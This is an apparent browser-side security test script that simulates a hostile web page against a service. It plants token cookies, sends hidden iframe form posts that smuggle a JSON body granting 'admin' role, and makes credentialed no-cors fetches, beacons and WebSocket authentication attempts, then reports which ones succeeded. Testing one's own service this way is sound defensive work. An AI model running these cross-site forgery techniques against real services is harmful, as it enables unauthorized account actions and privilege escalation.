// What a page tries that wants a service to act for whoever is in front of the browser. Gives what it could read, which
// sockets took its token, and how much it tried.
const [service, token, calls] = arguments;
const read = [];
const sockets = [];
const without = [];
let tried = 0;

// Cookies are of a host and not of a port: a page at another port of the host can set them.
for (const name of ["token", "access", "access_token", "authorization", "session", "sign_in", "bearer"]) {
  document.cookie = name + "=" + token + "; path=/";
}

async function attempt(list, name, act) {
  tried += 1;
  try {
    const reply = await act();
    if (reply.type !== "opaque" && reply.ok) list.push(name);
  } catch {
    // Refused, or not to be read.
  }
}

// A form, sent into a frame as a page does that wants nobody to see it.
function form(action, enctype, referrer) {
  tried += 1;
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + tried;
    document.body.append(frame);
    const element = document.createElement("form");
    Object.assign(element, { action, method: "post", enctype, target: frame.name });
    // As text/plain this is the beginning of a JSON object.
    const field = document.createElement("input");
    Object.assign(field, { name: '{"role":"admin","ignored":"', value: '"}' });
    element.append(field);
    if (referrer) element.rel = referrer;
    document.body.append(element);
    const over = () => {
      frame.remove();
      element.remove();
      done();
    };
    frame.onload = () => {
      if (element.dataset.sent) over();
    };
    setTimeout(over, 5000);
    element.dataset.sent = "yes";
    element.submit();
  });
}

function load(tag, url) {
  tried += 1;
  return new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = element.onerror = () => {
      element.remove();
      done();
    };
    element.src = url;
    document.body.append(element);
  });
}

// Whether a socket opens, and stays open once it has the token.
function socket(path) {
  tried += 1;
  return new Promise((done) => {
    const open = new WebSocket(service.replace("http", "ws") + path);
    const timer = setTimeout(() => open.close(), 5000);
    open.onopen = () => open.send(JSON.stringify({ type: "authenticate", token }));
    open.onmessage = () => {
      sockets.push(path);
      open.onmessage = null;
      open.close();
    };
    open.onclose = () => {
      clearTimeout(timer);
      done();
    };
  });
}

for (const [method, path, isSocket] of calls) {
  const url = service + path;
  const name = method + " " + path;
  if (isSocket) {
    await socket(path);
    continue;
  }
  if (method === "GET") {
    await Promise.all([load("img", url), load("script", url)]);
    await attempt(read, name, () => fetch(url, { headers: { authorization: "Bearer " + token } }));
    await attempt(without, name, () => fetch(url, { credentials: "include", mode: "no-cors" }));
    continue;
  }
  // What would end the sign-in that the attack has stolen is tried without it.
  if (path === "/sign-out" || path === "/account/password" || path.endsWith("/sign-ins")) {
    await attempt(without, name, () => fetch(url, { method, credentials: "include" }));
    if (method === "POST") await form(url, "text/plain");
    continue;
  }
  const bearer = { authorization: "Bearer " + token };
  await attempt(read, name, () => fetch(url, { method, headers: bearer }));
  await attempt(read, name, () => fetch(url, { method, headers: { ...bearer, "content-type": "application/json" }, body: "{}" }));
  await attempt(without, name, () => fetch(url, { method, credentials: "include" }));
  if (method !== "POST") continue;
  await attempt(without, name, () =>
    fetch(url, { method, mode: "no-cors", credentials: "include", body: '{"role":"admin"}' }));
  await attempt(without, name, () =>
    fetch(url, { method, mode: "no-cors", credentials: "include", referrerPolicy: "no-referrer", body: '{"role":"admin"}' }));
  tried += 1;
  navigator.sendBeacon(url, new Blob(['{"role":"admin"}'], { type: "text/plain" }));
  for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
    await form(url, enctype, enctype === "text/plain" ? "noreferrer" : "");
  }
}
return { read, sockets, "without a token": without, tried };
